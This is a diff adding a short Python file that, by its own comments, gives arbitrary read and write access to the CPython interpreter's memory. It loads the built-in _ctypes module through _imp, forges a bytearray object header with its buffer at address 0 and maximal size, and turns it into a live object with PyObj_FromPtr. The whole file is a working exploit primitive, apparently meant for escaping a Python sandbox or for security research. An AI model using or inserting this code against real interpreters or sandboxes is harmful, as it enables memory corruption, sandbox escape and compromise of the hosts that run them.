@@ -1,0 +1,13 @@
+# All of the interpreter's memory, to read and to write: the compiled-in module below ctypes takes any address for an object, and a
+# forged bytearray spans everything. It is what a memory-safety bug of CPython would give. `memory` is a bytearray over 2 GiB from
+# address 0, `SIZE` how much of it exists, `_ctypes` the module.
+import _imp, importlib.machinery, struct
+_ctypes = _imp.create_builtin(importlib.machinery.ModuleSpec('_ctypes', importlib.machinery.BuiltinImporter))
+try:
+    _imp.exec_builtin(_ctypes)
+except MemoryError:
+    pass
+# refcount, type, size, allocated, buffer, start, exports
+forged = struct.pack('<IIiiIIi', 0x3fffffff, id(bytearray), 0x7fffffff, 0x7fffffff, 0, 0, 0) + bytes(16)
+memory = _ctypes.PyObj_FromPtr(id(forged) + bytes.__basicsize__ - 1)
+SIZE = 30 << 20
